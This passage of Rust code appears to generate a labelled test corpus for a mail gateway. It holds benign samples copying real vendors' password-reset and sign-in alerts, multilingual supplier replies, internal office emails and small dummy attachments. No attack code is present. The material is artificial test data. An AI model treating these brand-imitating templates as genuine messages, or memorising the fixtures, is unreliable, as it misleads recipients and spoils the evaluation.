                        format!(
                            "Please use this code to reset the password for the Microsoft account <a href=\"mailto:{0}\">{1}</a>.",
                            rcpt.1,
                            masked(rcpt.1)
                        ),
                        format!("Here is your code: <b>{code}</b>"),
                        format!(
                            "If you don't recognize the Microsoft account {}, you can <a href=\"{remove}\">click here</a> to remove your email address from that account.",
                            masked(rcpt.1)
                        ),
                        "Thanks,<br>The Microsoft account team".into(),
                    ],
                    None,
                    "<a href=\"https://go.microsoft.com/fwlink/?LinkId=521839\">Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052",
                );
                (
                    MSA,
                    "Microsoft account password reset".into(),
                    alt(&text, &h),
                )
            }
            4 => {
                let link = format!("https://example-org.slack.com/reset/{}", rng.alnum(40));
                let paras = vec![
                    format!(
                        "We've received a request to reset the password for the Slack account associated with {}. No changes have been made to your account yet.",
                        rcpt.1
                    ),
                    "You can reset your password by clicking the link below:".into(),
                ];
                let h = service_html(
                    "slack",
                    "#611f69",
                    &paras,
                    Some(("Reset your password", &link)),
                    "If you did not request a new password, please let us know immediately by replying to this email.<br><br>You can find answers to most questions and get in touch with us at <a href=\"https://slack.com/help\">slack.com/help</a>. We're here to help you at any step along the way.<br><br>— The team at Slack<br>Slack Technologies, LLC, a Salesforce company. 415 Mission Street, 3rd Floor, San Francisco, CA 94105",
                );
                (
                    SLACK,
                    "Slack password reset for Example Org".into(),
                    alt(&html_to_text(&h), &h),
                )
            }
            5 => {
                let link = format!("https://zoom.us/resetpassword?token={}", rng.alnum(64));
                let paras = vec![
                    format!("Hello {first},"),
                    "Click the button below to reset your Zoom account password.".into(),
                ];
                let h = service_html(
                    "zoom",
                    "#0b5cff",
                    &paras,
                    Some(("Reset Password", &link)),
                    &format!(
                        "If the button above does not work, paste this into your browser:<br>{link}<br><br>This link expires in 60 minutes. If you did not request a password reset, you can ignore this email.<br><br>Copyright ©2025 Zoom Communications, Inc. All rights reserved."
                    ),
                );
                (
                    ZOOM,
                    "Reset your Zoom password".into(),
                    alt(&html_to_text(&h), &h),
                )
            }
            6 => {
                let link = format!(
                    "https://www.linkedin.com/e/v2?e={}&lipi=urn%3Ali%3Apage%3Aemail_security_reset_password&t=plh&ek=security_reset_password&a=checkpoint-password-reset",
                    rng.alnum(24)
                );
                let paras = vec![
                    format!("Hi {first},"),
                    "We received a request to reset the password for your LinkedIn account. You can reset your password here:".into(),
                ];
                let h = service_html(
                    "LinkedIn",
                    "#0a66c2",
                    &paras,
                    Some(("Reset password", &link.replace('&', "&amp;"))),
                    "This link will expire in 1 day. If you didn't request a password reset, you can safely ignore this email.<br><br>This email was intended for you. © 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.",
                );
                (
                    LINKEDIN,
                    format!("{first}, here's the link to reset your password"),
                    alt(&html_to_text(&h), &h),
                )
            }
            _ => {
                let link = format!(
                    "https://id.atlassian.com/login/resetpassword?token={}",
                    rng.alnum(72)
                );
                let paras = vec![
                    format!("Hi {},", rcpt.0),
                    "We received a request to reset the password for your Atlassian account. Click the button below to choose a new one.".into(),
                ];
                let h = service_html(
                    "Atlassian",
                    "#0c66e4",
                    &paras,
                    Some(("Reset password", &link)),
                    "This link expires in 24 hours. If you didn't ask to reset your password, you can ignore this email - your password won't change.<br><br>Atlassian, 350 Bush Street, Floor 13, San Francisco, CA 94104",
                );
                (
                    ATLASSIAN,
                    "Reset your Atlassian password".into(),
                    alt(&html_to_text(&h), &h),
                )
            }
        };
        let m = msg(
            &name,
            Mailer::Esp,
            mailbox(svc.display, svc.from),
            mailbox(rcpt.0, rcpt.1),
            &subject,
            date(i + 1, 8 * 60 + i * 53, i * 7, "+0000"),
            body,
        );
        let env = service_env(svc.mail_from, svc.helo, Auth::Aligned, i % 2 == 0);
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}

/// New-sign-in and unusual-activity alerts from the services themselves,
/// with their genuine wording.
fn signin_alert() -> Vec<Sample> {
    const KIND: &str = "signin-alert";
    let devices = [
        ("Windows", "Chrome"),
        ("Mac", "Safari"),
        ("iPhone", "Safari"),
        ("Linux", "Firefox"),
        ("Android", "Chrome"),
    ];
    let places = [
        ("Germany", "Frankfurt"),
        ("Spain", "Valencia"),
        ("Netherlands", "Amsterdam"),
        ("United Kingdom", "London"),
        ("France", "Lyon"),
    ];
    let mut out = Vec::new();
    for i in 0..16 {
        let name = format!("{KIND}-{i:02}");
        let rcpt = PEOPLE[(i * 5 + 2) % PEOPLE.len()];
        let mut rng = Rng::new(&name);
        let (os, browser) = devices[i % devices.len()];
        let (country, _city) = places[(i / 2) % places.len()];
        let ip = format!("198.51.100.{}", 20 + i * 7);
        let (svc, subject, body): (Service, String, Part) = match i % 6 {
            0 => {
                let chooser = format!(
                    "https://accounts.google.com/AccountChooser?Email={}&amp;continue=https://myaccount.google.com/alert/nt/{}?rfn%3D{}%26rfnc%3D1%26eid%3D{}",
                    rcpt.1,
                    rng.digits(13),
                    rng.digits(2),
                    rng.digits(19)
                );
                let h = service_html(
                    "Google",
                    "#1a73e8",
                    &[
                        format!(
                            "<span style=\"font-size:24px\">A new sign-in on {os}</span><br>{}",
                            rcpt.1
                        ),
                        format!(
                            "We noticed a new sign-in to your Google Account on a {os} device. If this was you, you don’t need to do anything. If not, we’ll help you secure your account."
                        ),
                    ],
                    Some(("Check activity", &chooser)),
                    "You can also see security activity at<br>https://myaccount.google.com/notifications<br><br>You received this email to let you know about important changes to your Google Account and services.<br>© 2025 Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA",
                );
                (
                    GOOGLE,
                    "Security alert".to_string(),
                    alt(&html_to_text(&h), &h),
                )
            }
            1 => {
                let text = format!(
                    "Microsoft account\n\nUnusual sign-in activity\n\nWe detected something unusual about a recent sign-in to the Microsoft account {}.\n\nSign-in details\n\nCountry/region: {country}\nIP address: {ip}\nDate: {} (GMT)\nPlatform: {os}\nBrowser: {browser}\n\nPlease go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account. If this was you, we'll trust similar activity in the future.\n\nReview recent activity <https://account.live.com/Activity>\n\nTo opt out or change where you receive security notifications, click here <https://account.live.com/SecurityNotifications/Update>.\n\nThanks,\nThe Microsoft account team\n",
                    masked(rcpt.1),
                    mdy(i)
                );
                let h = service_html("Microsoft account", "#0078d4", &[
                    "<span style=\"font-size:28px;color:#2672ec\">Unusual sign-in activity</span>".into(),
                    format!("We detected something unusual about a recent sign-in to the Microsoft account <a href=\"mailto:{}\">{}</a>.", rcpt.1, masked(rcpt.1)),
                    format!("<b>Sign-in details</b><br>Country/region: {country}<br>IP address: {ip}<br>Date: {} (GMT)<br>Platform: {os}<br>Browser: {browser}", mdy(i)),
                    "Please go to your recent activity page to let us know whether or not this was you. If this wasn't you, we'll help you secure your account. If this was you, we'll trust similar activity in the future.".into(),
                ], Some(("Review recent activity", "https://account.live.com/Activity")), "To opt out or change where you receive security notifications, <a href=\"https://account.live.com/SecurityNotifications/Update\">click here</a>.<br><br>Thanks,<br>The Microsoft account team");
                (
                    MSA,
                    "Microsoft account unusual sign-in activity".into(),
                    alt(&text, &h),
                )
            }
            2 => {
                let code = rng.digits(6);
                let login = format!("{}-exampleorg", first_name(rcpt).to_ascii_lowercase());
                let text = format!(
                    "Hey {login}!\n\nA sign in attempt requires further verification because we did not recognize your device. To complete the sign in, enter the verification code on the unrecognized device.\n\nDevice: {browser} on {os}\nVerification code: {code}\n\nIf you did not attempt to sign in to your account, your password may be compromised. Visit https://github.com/settings/security to create a new, strong password for your GitHub account.\n\nIf you'd like to automatically verify devices in the future, consider enabling two-factor authentication on your account. Visit https://docs.github.com/articles/configuring-two-factor-authentication to learn about two-factor authentication.\n\nIf you decide to enable two-factor authentication, ensure you retain access to one or more account recovery methods. See https://docs.github.com/articles/configuring-two-factor-authentication-recovery-methods in the GitHub Help.\n\nThanks,\nThe GitHub Team\n"
                );
                (
                    GITHUB,
                    "[GitHub] Please verify your device".into(),
                    plain(&text),
                )
            }
            3 => {
                let text = format!(
                    "Dear {},\n\nYour Apple Account ({}) was used to sign in to iCloud via a web browser.\n\nDate and Time: {}, {:02}:{:02} CET\n\nIf the information above looks familiar, you can ignore this message.\n\nIf you have not signed in to iCloud recently and believe someone may have accessed your account, go to Apple Account (https://account.apple.com) and change your password as soon as possible.\n\nApple Support\n",
                    rcpt.0,
                    rcpt.1,
                    long_date(i),
                    8 + i % 10,
                    (i * 7) % 60
                );
                let h = service_html("", "#1d1d1f", &text.trim_end().split("\n\n").map(|p| esc(p).replace("https://account.apple.com", "<a href=\"https://account.apple.com\">https://account.apple.com</a>")).collect::<Vec<_>>(), None, "<a href=\"https://support.apple.com/\">Apple Support</a> | <a href=\"https://www.apple.com/legal/privacy/\">Privacy Policy</a><br>Copyright © 2025 Apple Distribution International Ltd. All rights reserved.");
                (
                    APPLE,
                    "Your Apple Account was used to sign in to iCloud via a web browser".into(),
                    alt(&text, &h),
                )
            }
            4 => {
                let link = "https://example-org.slack.com/account/sessions";
                let h = service_html("slack", "#611f69", &[
                    format!("Hi {},", first_name(rcpt)),
                    format!("We noticed a new sign-in to your Slack account in the <b>Example Org</b> workspace from <b>{browser} on {os}</b> near {country}."),
                    "If this was you, there's nothing else you need to do. If you don't recognise this sign-in, you should change your password and sign out of all other sessions.".into(),
                ], Some(("View sessions", link)), "Slack Technologies, LLC, a Salesforce company. 415 Mission Street, 3rd Floor, San Francisco, CA 94105");
                (
                    SLACK,
                    format!("New sign-in to Slack from {browser} on {os}"),
                    alt(&html_to_text(&h), &h),
                )
            }
            _ => {
                let h = service_html("LinkedIn", "#0a66c2", &[
                    format!("Hi {},", first_name(rcpt)),
                    format!("We noticed a new sign-in to your LinkedIn account.<br><br><b>Device:</b> {browser} on {os}<br><b>Location:</b> {country}<br><b>Time:</b> {}", long_date(i)),
                    "If this was you, you can safely ignore this email. If you don't recognise this activity, change your password right away.".into(),
                ], Some(("Change password", "https://www.linkedin.com/psettings/change-password")), "This email was intended for you. © 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.");
                (
                    LINKEDIN,
                    format!(
                        "{}, a new device signed in to your account",
                        first_name(rcpt)
                    ),
                    alt(&html_to_text(&h), &h),
                )
            }
        };
        let m = msg(
            &name,
            Mailer::Esp,
            mailbox(svc.display, svc.from),
            rcpt.1.to_string(),
            &subject,
            date(i, 6 * 60 + i * 61, i * 3, "+0000"),
            body,
        );
        let env = service_env(svc.mail_from, svc.helo, Auth::Aligned, i % 3 != 0);
        out.push(sample(KIND, i, false, rcpt.1, env, m.render()));
    }
    out
}

/// A partner's signature block.
fn signature(p: &Partner) -> String {
    match p.lang {
        "de" => format!(
            "Mit freundlichen Grüßen\n\n{}\n{}\n{}\nTel. +49 711 {} 0",
            p.contact,
            p.company,
            p.city,
            2000 + hash(p.domain) % 7000
        ),
        "fr" => format!(
            "Cordialement,\n\n{}\n{}\n{}\nTél. +33 4 72 {:02} {:02} {:02}",
            p.contact,
            p.company,
            p.city,
            hash(p.domain) % 90 + 10,
            hash(p.city) % 90 + 10,
            hash(p.contact) % 90 + 10
        ),
        "es" => format!(
            "Un saludo,\n\n{}\n{}\n{}\nTel. +34 963 {:03} {:03}",
            p.contact,
            p.company,
            p.city,
            hash(p.domain) % 1000,
            hash(p.city) % 1000
        ),
        _ => format!(
            "Kind regards,\n\n{}\n{}\n{}\nwww.{}",
            p.contact, p.company, p.city, p.domain
        ),
    }
}

fn partner_mailer(p: &Partner) -> Mailer {
    match p.domain {
        "acme-supplies.example" | "northwind.example" | "tailspin-logistics.example" => {
            Mailer::Outlook
        }
        "schmidt-buerotechnik.example" => Mailer::Thunderbird,
        "papeterie-dupont.example" | "lucerne-publishing.example" => Mailer::AppleMail,
        _ => Mailer::Gmail,
    }
}

/// Replies from partners in threads an employee started.
fn thread_reply() -> Vec<Sample> {
    const KIND: &str = "thread-reply";
    // (subject, what the employee wrote, the partner's answer, attachment name)
    let en: [(&str, &str, &str, Option<&str>); 8] = [
        (
            "Delivery schedule for PO 45821",
            "Hi {c},\n\nCould you confirm the delivery date for PO 45821? Our warehouse needs to plan the unloading slot.\n\nThanks,\n{e}",
            "Hi {e},\n\nThe goods left our warehouse this morning; expected delivery is Thursday between 8:00 and 12:00. I'll send the tracking number once the carrier has scanned the pallets.\n\nSorry again for the delay last week - our own supplier was late with the labels.",
            None,
        ),
        (
            "Quote Q-2025-117",
            "Hi {c},\n\nThanks for the quote. Is there any room on the unit price if we commit to 12 months?\n\nBest,\n{e}",
            "Hi {e},\n\nWe can do 4% off the unit price for a 12-month commitment - revised quote attached. Payment terms stay at 30 days net, and prices are fixed for the full term.\n\nLet me know if you'd like to go ahead and I'll prepare the order confirmation.",
            Some("Quote_Q-2025-117_rev2.pdf"),
        ),
        (
            "Invoice INV-2025-0412 - quantity",
            "Hi {c},\n\nInvoice INV-2025-0412 shows 120 units, but we received 112 (see delivery note). Could you issue a credit note for the difference?\n\nRegards,\n{e}",
            "Hi {e},\n\nYou're right, apologies for that. Credit note CN-0087 for the 8 missing units is attached - please deduct it from your next payment.",
            Some("Credit_Note_CN-0087.pdf"),
        ),
        (
            "Next steps after Tuesday's meeting",
            "Hi {c},\n\nThanks for your time on Tuesday. Could you send over the notes and the list of open points?\n\n{e}",
            "Hi {e},\n\nHere's a summary:\n\n1. We send the updated specification by Friday.\n2. You confirm the forecast for Q3 by end of month.\n3. Joint review of the SLA report in April.\n\nShout if I missed anything.",
            None,
        ),
        (
            "Shipment held at customs",
            "Hi {c},\n\nOur shipment from last week still hasn't arrived and the tracking says \"held at customs\". Do you know what's going on?\n\n{e}",
            "Hi {e},\n\nI checked with our broker: customs need the commercial invoice with your EORI number. Could you send it today, if possible? Otherwise the shipment will sit there over the weekend.\n\nI'm sorry for the hassle - this is new since the rule change in January.",
            None,
        ),
        (
            "Access to your supplier portal",
            "Hi {c},\n\nCould you give me access to your supplier portal? I'd like to download our order history.\n\nThanks,\n{e}",
            "Hi {e},\n\nDone - I've created an account for you. You'll get a separate email from our portal with a link to set your password; it's valid for 48 hours. Let me know if it doesn't arrive.",
            None,
        ),
        (
            "Framework agreement - draft v3",
            "Hi {c},\n\nOur legal team has reviewed v2, comments are in the attached document. Main points are liability caps and the termination clause.\n\n{e}",
            "Hi {e},\n\nThanks for the quick review. Attached is v3 with our responses. We accepted the liability cap; on termination we propose 6 months instead of 3. Happy to discuss on a call.",
            Some("Framework_Agreement_v3.pdf"),
        ),
        (
            "Payment received",
            "Hi {c},\n\nJust to let you know the payment for invoices 2025-031 and 2025-036 went out today.\n\n{e}",
            "Hi {e},\n\nConfirming we received your payment of EUR 12,480.00 today. Thanks for the quick turnaround - both invoices are now closed on our side.",
            None,
        ),
    ];
    let de: [(&str, &str, &str, Option<&str>); 3] = [
        (
            "Lieferung KW 12",
            "Hallo {c},\n\nkönnen Sie mir bitte den Liefertermin für unsere Bestellung 4471 bestätigen?\n\nViele Grüße\n{e}",
            "Hallo {e},\n\ndie Ware wird am Mittwoch, 19.03., zwischen 9 und 12 Uhr geliefert. Der Lieferschein liegt der Sendung bei.",
            None,
        ),
        (
            "Angebot Wartungsvertrag",
            "Hallo {c},\n\nvielen Dank für das Angebot. Ist der Vor-Ort-Service in der Pauschale enthalten?\n\nGruß\n{e}",
            "Hallo {e},\n\nja, zwei Vor-Ort-Einsätze pro Jahr sind enthalten, jeder weitere wird nach Aufwand berechnet. Das überarbeitete Angebot finden Sie im Anhang.",
            Some("Angebot_Wartung_2025.pdf"),
        ),
        (
            "Rechnung 2025-0318 - Rückfrage",
            "Hallo {c},\n\nauf der Rechnung 2025-0318 fehlt unsere Bestellnummer. Können Sie die Rechnung bitte korrigieren?\n\nDanke und Gruß\n{e}",
            "Hallo {e},\n\nentschuldigen Sie bitte. Anbei die korrigierte Rechnung mit Ihrer Bestellnummer 4502. Betrag und Zahlungsziel bleiben unverändert.",
            Some("Rechnung_2025-0318_korrigiert.pdf"),
        ),
    ];
    let fr: [(&str, &str, &str, Option<&str>); 3] = [
        (
            "Commande n° 4587",
            "Bonjour {c},\n\nPourriez-vous me confirmer la date de livraison de la commande 4587 ?\n\nMerci,\n{e}",
            "Bonjour {e},\n\nLa commande 4587 sera livrée mardi prochain dans la matinée. Je vous envoie le numéro de suivi dès l'expédition.",
            None,
        ),
        (
            "Devis révisé",
            "Bonjour {c},\n\nMerci pour le devis. Serait-il possible d'ajouter 500 enveloppes C4 ?\n\nCordialement,\n{e}",
            "Bonjour {e},\n\nVoici le devis révisé avec les enveloppes C4. Le délai de livraison reste de 5 jours ouvrés.",
            Some("Devis_D-2025-088_v2.pdf"),
        ),
        (
            "Relevé de compte",
            "Bonjour {c},\n\nPouvez-vous nous envoyer un relevé de compte à jour ?\n\n{e}",
            "Bonjour {e},\n\nVous trouverez ci-joint votre relevé de compte au 28 février. Tout est à jour de notre côté, aucune facture en retard.",
            Some("Releve_compte_2025-02.pdf"),
        ),
    ];
    let es: [(&str, &str, &str, Option<&str>); 3] = [
        (
            "Pedido 2025-118",
            "Hola {c},\n\n¿Me puedes confirmar cuándo sale el pedido 2025-118?\n\nGracias,\n{e}",
            "Hola {e},\n\nEl pedido sale mañana por la mañana y llegará el jueves. Te paso el número de seguimiento en cuanto lo tenga.",
            None,
        ),
        (
            "Presupuesto actualizado",
            "Hola {c},\n\n¿Podéis actualizar el presupuesto con las nuevas cantidades?\n\nUn saludo,\n{e}",
            "Hola {e},\n\nTe adjunto el presupuesto actualizado con las cantidades nuevas. Las condiciones de pago siguen siendo a 60 días.",
            Some("Presupuesto_P-2025-0419.pdf"),
        ),
        (
            "Reunión del jueves",
            "Hola {c},\n\n¿Te va bien el jueves a las 10:00 para revisar el contrato?\n\n{e}",
            "Hola {e},\n\nPerfecto, el jueves a las 10:00 me va bien. Te llamo al fijo de la oficina.",
            None,
        ),
    ];
    let mut out = Vec::new();
    for i in 0..30 {
        let name = format!("{KIND}-{i:02}");
        let p = &PARTNERS[i % PARTNERS.len()];
        let table: &[(&str, &str, &str, Option<&str>)] = match p.lang {
            "de" => &de,
            "fr" => &fr,
            "es" => &es,
            _ => &en,
        };
        let (subject, asked, answer, attach) = table[(i / PARTNERS.len() + i) % table.len()];
        let rcpt = pick(&[BOB, CFO, DIETER, CARLA, ALICE, AP, CEO], i + i / 7);
        let c = first_name_of(p.contact);
        let e = first_name(rcpt);
        let asked = asked.replace("{c}", c).replace("{e}", e);
        let answer = answer.replace("{c}", c).replace("{e}", e);
        let mailer = partner_mailer(p);
        let sent_day = i / 2;
        let quoted = if mailer == Mailer::Outlook {
            quote_outlook(
                &mailbox(rcpt.0, rcpt.1),
                &date(sent_day, 9 * 60 + i, 0, "+0100"),
                &mailbox(p.contact, p.contact_addr),
                subject,
                &asked,
            )
        } else {
            quote_gmail(
                &when(sent_day, 9 * 60 + i),
                &mailbox(rcpt.0, rcpt.1),
                &asked,
            )
        };
        let re = match p.lang {
            "de" => "AW: ",
            "fr" | "es" => "RE: ",
            _ if mailer == Mailer::Outlook => "RE: ",
            _ => "Re: ",
        };
        let text = format!("{answer}\n\n{}\n\n{quoted}", signature(p));
        // Outlook users' signatures carry the company logo inline.
        let text_body = if mailer == Mailer::Outlook && i % 2 == 0 {
            let cid = format!(
                "image001.jpg@01DB94{:02}.{}",
                i,
                Rng::new(&name).hex_upper(8)
            );
            let logo = outlook_html(&text).replace(
                "</div>\n</body>",
                &format!("<p class=\"MsoNormal\"><img width=\"120\" height=\"40\" src=\"cid:{cid}\" alt=\"{}\"></p>\n</div>\n</body>", p.company),
            );
            alternative(vec![
                plain(&text),
                related(vec![
                    html(&logo),
                    inline_image(&cid, "image001.jpg", &jpeg(p.domain)),
                ]),
            ])
        } else {
            body_for(mailer, &text)
        };
        let body = match attach {
            Some(file) => mixed(vec![
                text_body,
                attachment(
                    "application/pdf",
                    file,
                    &pdf(&[
                        p.company,
                        subject,
                        &format!("{} / {}", p.city, dmy(sent_day)),
                    ]),
                ),
            ]),
            None => text_body,
        };
        let parent = other_id(&format!("{name}-parent"), Mailer::Outlook, "example.org");
        let root = other_id(&format!("{name}-root"), mailer, p.domain);
        let refs = if i % 3 == 0 {
            format!("{root} {parent}")
        } else {
            parent.clone()
        };
        let m = msg(
            &name,
            mailer,
            mailbox(p.contact, p.contact_addr),
            mailbox(rcpt.0, rcpt.1),
            &format!("{re}{subject}"),
            date(
                sent_day + 1,
                8 * 60 + i * 29,
                i * 11,
                if p.lang == "en" && p.city != "Austin" {
                    "+0000"
                } else if p.city == "Austin" {
                    "-0500"
                } else {
                    "+0100"
                },
            ),
            body,
        )
        .header("In-Reply-To", &parent)
        .header("References", &refs);
        let auth = if i % 7 == 3 {
            Auth::SpfOnly
        } else {
            Auth::Aligned
        };
        out.push(sample(
            KIND,
            i,
            false,
            rcpt.1,
            org_env(p.contact_addr, i, auth, true),
            m.render(),
        ));
    }
    out
}

/// A minimal Office Open XML workbook container (what a gateway sees of an
/// .xlsx: a ZIP with the OOXML parts).
fn xlsx(title: &str) -> Vec<u8> {
    let ct = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/></Types>";
    let rels = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>";
    let wb = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<workbook xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets><sheet name=\"{title}\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
    );
    let wbrels = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>";
    let sheet = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>Item</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>Q1</t></is></c></row><row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is><t>Revenue</t></is></c><c r=\"B2\"><v>1284000</v></c></row></sheetData></worksheet>";
    zip(&[
        ("[Content_Types].xml", ct.as_bytes()),
        ("_rels/.rels", rels.as_bytes()),
        ("xl/workbook.xml", wb.as_bytes()),
        ("xl/_rels/workbook.xml.rels", wbrels.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ])
}

const XLSX: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// Colleagues writing to each other through Example Org's own servers.
fn internal() -> Vec<Sample> {
    const KIND: &str = "internal";
    // (from, to, subject, text, attachment)
    let topics = [
        (
            BOB,
            ALICE,
            "Lunch tomorrow?",
            "Hi Alice,\n\nAre you around for lunch tomorrow? The new Thai place on Kirchstraße opened this week.\n\nBob",
            None,
        ),
        (
            ALICE,
            BOB,
            "Updated travel policy",
            "Hi Bob,\n\nAttached is the updated travel policy that applies from 1 April. The main change: rail is now mandatory for trips under 4 hours.\n\nLet me know if you have questions.\n\nBest,\nAlice",
            Some("Travel_Policy_2025.pdf"),
        ),
        (
            CFO,
            AP,
            "Payment run Thursday - approved",
            "Hi team,\n\nI've approved the payment run for Thursday:\n\n- Acme Supplies: INV-20417, INV-20433\n- Northwind Traders: NW-88412\n- Schmidt Bürotechnik: 2025-0318\n\nPlease process as usual via the bank portal and send me the confirmation once it's released.\n\nThanks,\nJohn",
            None,
        ),
        (
            IT,
            BOB,
            "Planned maintenance Saturday 22:00-02:00",
            "Hello,\n\nOn Saturday, 22 March, from 22:00 to 02:00 we will update the mail servers. Email may be delayed during this window; nothing will be lost.\n\nNo action is needed on your side.\n\nIT Helpdesk\nExample Org - ext. 4357",
            None,
        ),
        (
            IT,
            CARLA,
            "Password policy change from 1 April",
            "Hello,\n\nFrom 1 April, passwords must be at least 14 characters long. The next time your password expires you'll be asked to choose a new one when you sign in at https://sso.example.org.\n\nReminder: IT will never ask for your password by email or phone. If you get a message that does, please forward it to it@example.org.\n\nThanks,\nIT Helpdesk",
            None,
        ),
        (
            DIETER,
            CARLA,
            "Q1 numbers by region",
            "Hi Carla,\n\nHere are the Q1 numbers by region as discussed. DACH is slightly below plan, Iberia well above - nice work!\n\nDieter",
            Some("Q1_by_region.xlsx"),
        ),
        (
            DIETER,
            ALICE,
            "Urlaubsantrag Ostern",
            "Hallo Alice,\n\nich möchte vom 14. bis 22. April Urlaub nehmen. Der Antrag ist im Portal, kannst du ihn bitte freigeben?\n\nDanke und viele Grüße\nDieter",
            None,
        ),
        (
            CEO,
            CFO,
            "Board pack",
            "John,\n\nCan you send me the draft board pack by Wednesday evening? I'd like to go through it before Thursday's prep call.\n\nThanks,\nJane",
            None,
        ),
        (
            AP,
            CFO,
            "Payment run executed",
            "Hi John,\n\nThe payment run has been executed: 14 payments, EUR 86,214.37 in total. Remittance advices went out to all suppliers. The bank's report and the payment list are in the attached archive.\n\nBest regards,\nAccounts Payable",
            Some("Payment_Run_2025-03-13.zip"),
        ),
        (
            ALICE,
            CARLA,
            "Onboarding for the new analyst",
            "Hi Carla,\n\nYour new analyst starts on Monday. Laptop and badge are ready; could you plan someone to show her around in the afternoon?\n\nThanks,\nAlice",
            None,
        ),
        (
            BOB,
            IT,
            "Docking station not working",
            "Hi IT,\n\nSince yesterday's update my docking station doesn't detect the second monitor. Tried another cable, same thing. Could someone have a look?\n\nThanks,\nBob (room 2.14)",
            None,
        ),
        (
            CARLA,
            AP,
            "Expense report March",
            "Hi,\n\nPlease find my March expense report attached, including the receipts for the Madrid trip. Total EUR 642.80.\n\nThanks,\nCarla",
            Some("Expenses_March_CNunez.pdf"),
        ),
        (
            CFO,
            CEO,
            "Bank signatories update",
            "Jane,\n\nThe bank needs the updated list of authorised signatories after the board resolution. I've prepared the form - it needs your signature and mine. Could we do it after the leadership meeting tomorrow?\n\nJohn",
            None,
        ),
        (
            CARLA,
            DIETER,
            "Visit to Valencia supplier",
            "Hi Dieter,\n\nI'll visit Suministros García next Tuesday. Anything you want me to raise with them? I was going to bring up the late deliveries in February.\n\nCarla",
            None,
        ),
        (
            CEO,
            BOB,
            "Thanks for the customer demo",
            "Bob,\n\nGreat job on the demo for Fabrikam yesterday - Priya called me afterwards and was very positive. Let's talk next week about the proposal.\n\nJane",
            None,
        ),
    ];
    let replies = [
        "Thanks, will do.",
        "Sounds good - see you then.",
        "Done. Let me know if you need anything else.",
        "Got it, thanks!",
        "Thanks for the heads-up.",
    ];
    let mut out = Vec::new();
    for i in 0..30 {
        let name = format!("{KIND}-{i:02}");
        let (from, to, subject, text, attach) = topics[i % topics.len()];
        let reply = i >= topics.len();
        let (sender, rcpt) = if reply { (to, from) } else { (from, to) };
        let mailer = if i % 4 == 3 {
            Mailer::Thunderbird
        } else {
            Mailer::Outlook
        };
        let day = i % 15 + 1;
        let mut full = text.to_string();
        let mut subj = subject.to_string();
        if reply {
            let r = replies[i % replies.len()];
            let sign = first_name(sender);
            full = format!(
                "{r}\n\n{sign}\n\n{}",
                quote_outlook(
                    &mailbox(from.0, from.1),
                    &date(day, 9 * 60 + i * 7, 0, "+0100"),
                    &mailbox(to.0, to.1),
                    subject,
                    text
                )
            );
            subj = format!("RE: {subject}");
        }
        let text_body = body_for(mailer, &format!("{full}\n"));
        let body = match (attach, reply) {
            (Some(file), false) if file.ends_with(".xlsx") => {
                mixed(vec![text_body, attachment(XLSX, file, &xlsx("Q1"))])
            }
            (Some(file), false) if file.ends_with(".zip") => {
                let report = pdf(&["Payment run 2025-03-13", "14 payments, EUR 86,214.37"]);
                let list = pdf(&["Payment list", "Acme Supplies Ltd", "Northwind Traders"]);
                let archive = zip(&[("report.pdf", &report), ("payment_list.pdf", &list)]);
                mixed(vec![
                    text_body,
                    attachment("application/zip", file, &archive),
                ])
            }
            (Some(file), false) => mixed(vec![
                text_body,
                attachment("application/pdf", file, &pdf(&["Example Org", subject])),
            ]),
            _ => text_body,
        };
        let mut m = msg(
            &name,
            mailer,
            person(sender),
            person(rcpt),
            &subj,
            date(day + usize::from(reply), 9 * 60 + i * 19, i * 13, "+0100"),
            body,
        );
        if reply {
            // The message answered is in this corpus: its Message-ID.
            let j = i % topics.len();
            let parent_mailer = if j % 4 == 3 {
                Mailer::Thunderbird
            } else {
                Mailer::Outlook
            };
            let parent = other_id(&format!("{KIND}-{j:02}"), parent_mailer, "example.org");
            m = m
                .header("In-Reply-To", &parent)
                .header("References", &parent);
        }
        out.push(sample(
            KIND,
            i,
            false,
            rcpt.1,
            internal_env(sender.1, i),
            m.render(),
        ));
    }
    out
}

/// Billing details of each partner, unchanged throughout.
fn billing(p: &Partner) -> (&'static str, &'static str, &'static str) {
